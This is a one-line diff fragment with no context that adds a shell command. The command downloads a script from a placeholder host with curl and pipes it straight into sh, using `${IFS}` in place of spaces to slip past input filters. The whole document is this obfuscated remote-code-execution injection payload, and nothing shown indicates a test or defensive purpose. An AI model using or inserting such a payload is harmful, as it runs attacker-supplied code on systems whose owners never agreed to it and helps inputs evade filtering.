@@ -1,0 +1,1 @@
+curl${IFS}-s${IFS}https://get.example.net/x|sh
